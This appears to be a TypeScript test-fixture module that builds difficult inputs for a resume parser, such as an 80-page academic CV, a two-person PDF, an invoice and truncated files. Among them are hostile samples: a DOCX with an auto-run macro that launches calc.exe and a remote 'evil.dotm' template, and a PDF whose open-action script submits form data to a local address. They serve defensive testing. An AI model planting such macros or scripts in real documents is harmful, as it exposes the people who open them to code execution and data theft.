/** Files that are not what a reader hopes for: too long, of two people, no resume at all, or with more in them than text. */
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import fontkit from '@pdf-lib/fontkit';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { PDFDict, PDFDocument, PDFName, StandardFonts } from 'pdf-lib';
import { pdfOf, tableDocx } from './resume-files.ts';

const rowsOf = (texts: readonly string[], size = 10) =>
  texts.map((text, i) => ({ text, y: 60 + i * 17, size: i === 0 ? 20 : size, bold: i === 0 }));

/** A picture whose header says 30,000 × 30,000. */
export function hugePng(): Uint8Array {
  const bytes = new Uint8Array(64);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  new DataView(bytes.buffer).setUint32(16, 30_000);
  new DataView(bytes.buffer).setUint32(20, 30_000);
  return bytes;
}

export const PAPERS = 640;

const PLANTS = ['Ginkgo', 'Metasequoia', 'Glossopteris', 'Lepidodendron', 'Archaeopteris', 'Cycas', 'Equisetum'];
const SITES = [
  'Seaham',
  'the Joggins cliffs',
  'Rhynie',
  'Spitsbergen',
  'Solnhofen',
  'the Karoo',
  'Axel Heiberg',
  'Messel',
  'Florissant',
];
const JOURNALS = [
  'Journal of Old Plants',
  'Annals of Stratigraphy',
  'Leaf and Stone',
  'Palaeobotanical Letters',
  'Earth Records',
];
const at = (list: readonly string[], i: number): string => list[i % list.length] ?? '';

/** No two are alike in all their words. */
export const paper = (i: number): string =>
  `Underhay-Morris, P. (${2024 - (i % 20)}). ${at(PLANTS, i)} leaves from ${at(SITES, i)}. ${at(JOURNALS, i)} ${i + 1}.`;

/** Eighty pages of a professor: posts, a degree, and a list of papers, eight a page. */
export function academicPdf(): Promise<Uint8Array> {
  const head = rowsOf([
    'Philippa Underhay-Morris',
    'p.underhay@example.ac.uk | +44 7700 900317 | Durham, United Kingdom',
    'EMPLOYMENT',
    'Professor of Palaeobotany, Wearmouth University, 2012 – present',
    'Lecturer in Palaeobotany, University of Coldstream, 2003 – 2012',
    'EDUCATION',
    'PhD Palaeobotany, University of Coldstream, 1999 – 2003',
    'PUBLICATIONS',
  ]);
  const papers = Array.from({ length: PAPERS }, (_, i) => `${i + 1}. ${paper(i)}`);
  const page = (n: number) => papers.slice(n * 8, n * 8 + 8).map((text, i) => ({ text, y: 300 + i * 40 }));
  return pdfOf(Array.from({ length: 80 }, (_, n) => (n === 0 ? [...head, ...page(0)] : page(n))));
}

/** Two applicants put into one file. */
export const twoPeoplePdf = (): Promise<Uint8Array> =>
  pdfOf([
    rowsOf([
      'Winifred Castellane',
      'winifred.castellane@example.com | +1 206 555 0119',
      'EXPERIENCE',
      'Baker, Harvest Moon Bakery, 2016 – 2021',
      'Night shift for three shops, four hundred loaves a night',
      'Trained two apprentices',
      'Apprentice, Old Mill Bread, 2014 – 2016',
      'EDUCATION',
      'Diploma in Baking, Puget College, 2014 – 2016',
      'SKILLS',
      'Sourdough, Lamination, Stock keeping',
      'LANGUAGES',
      'English, Italian',
    ]),
    rowsOf([
      'Leopold Ashgrove',
      'leopold.ashgrove@example.com | +1 206 555 0164',
      'EXPERIENCE',
      'Forklift Driver, Cascade Storage Inc., 2018 – 2024',
      'Loaded and unloaded thirty trucks a day',
      'Kept the yard free of accidents for four years',
      'EDUCATION',
      'High School Diploma, Ballard High School, 2014 – 2018',
      'SKILLS',
      'Forklift licence, Inventory, First aid',
    ]),
  ]);

/** The Word file of a resume that also carries a macro, an embedded file about somebody else, and an external template. */
export async function macroDocx(): Promise<Uint8Array> {
  const parts = unzipSync(await tableDocx());
  return zipSync({
    ...parts,
    'word/vbaProject.bin': strToU8('Attribute VB_Name = "AutoOpen" Shell "calc.exe" Ignatius Blackwood'),
    'word/embeddings/oleObject1.bin': strToU8('Ignatius Blackwood, ignatius.blackwood@example.com, Chief Poisoner'),
    'word/_rels/settings.xml.rels': strToU8(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>',
    ),
  });
}

/** A resume with a script that runs when it is opened and a text about somebody else attached. */
export async function scriptedPdf(visible: Uint8Array): Promise<Uint8Array> {
  const document = await PDFDocument.load(visible);
  document.addJavaScript('open', 'app.alert("Ignatius Blackwood"); this.submitForm("http://127.0.0.1:9/");');
  await document.attach(strToU8('Ignatius Blackwood\nignatius.blackwood@example.com\nChief Poisoner'), 'other.txt', {
    mimeType: 'text/plain',
  });
  return document.save();
}

export const UNMAPPED = [
  'Eudora Pennyfeather',
  'eudora.pennyfeather@example.com',
  'EXPERIENCE',
  'Optician, Larkspur Optics Ltd, 2015 – 2022',
  'EDUCATION',
  'BSc Optometry, University of Thornfield, 2011 – 2014',
];

/** A resume whose font says of no glyph which letter it is: what comes out of it as text is noise. */
export async function unmappedPdf(): Promise<Uint8Array> {
  const folder = createRequire(import.meta.url).resolve('@expo-google-fonts/noto-sans/package.json');
  const file = folder.replace(/package\.json$/u, '400Regular/NotoSans_400Regular.ttf');
  const document = await PDFDocument.create();
  document.registerFontkit(fontkit);
  const font = await document.embedFont(await readFile(file), { subset: true });
  const page = document.addPage([595, 842]);
  for (const [i, text] of UNMAPPED.entries())
    page.drawText(text, { x: 60, y: 770 - i * 26, size: i === 0 ? 22 : 11, font });
  const drawn = await PDFDocument.load(await document.save());
  for (const [, object] of drawn.context.enumerateIndirectObjects())
    if (object instanceof PDFDict && object.get(PDFName.of('Subtype')) === PDFName.of('Type0'))
      object.delete(PDFName.of('ToUnicode'));
  return drawn.save();
}

export const invoicePdf = (): Promise<Uint8Array> =>
  pdfOf([
    rowsOf([
      'INVOICE',
      'Bill to: Hollis Merriweather, 12 Pine Road, Dayton, OH 45402',
      'Invoice no. 2024-0931   Date: 03/04/2024   Due: 04/03/2024',
      'Description      Quantity      Unit price      Amount',
      'Gutter cleaning      1      180.00      180.00',
      'Downpipe bracket      6      4.50      27.00',
      'Subtotal 207.00    Sales tax 7.5 % 15.53    Total due 222.53',
      'Please pay to account 000123456 within 30 days.',
    ]),
  ]);

export const postingPdf = (): Promise<Uint8Array> =>
  pdfOf([
    rowsOf([
      'Warehouse Team Leader (m/f/d)',
      'Brightwell Logistics is looking for a team leader for its new site in Reading.',
      'Your tasks',
      'You plan the shifts of twelve colleagues and keep the stock figures right.',
      'What you bring',
      'Two years of experience in a warehouse and a forklift licence.',
      'What we offer',
      '28 days of holiday, a company pension and a permanent contract.',
      'Apply with your resume at jobs@brightwell.example by 30 June.',
    ]),
  ]);

export const coverLetterPdf = (): Promise<Uint8Array> =>
  pdfOf([
    rowsOf(
      [
        'Hollis Merriweather',
        '12 Pine Road, Dayton, OH 45402',
        'March 4, 2024',
        'Dear Ms. Takahashi,',
        'I am writing to apply for the position of office manager at your practice, which I saw on your web site.',
        'For the last six years I have kept the front desk of a veterinary clinic running, and I would like to bring',
        'that calm to a larger team. Your letter to clients about shorter waiting times is what made me write.',
        'I would be glad to meet you and can start in May. Thank you for your time and consideration.',
        'Sincerely,',
        'Hollis Merriweather',
      ],
      10,
    ),
  ]);

/** A page of plain text in a font that every reader has, for a resume cut off in the middle. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let i = 0; i < 3; i++) document.addPage().drawText('Experience', { font });
  const whole = await document.save({ useObjectStreams: false });
  return whole.slice(0, Math.floor(whole.length * 0.4));
}
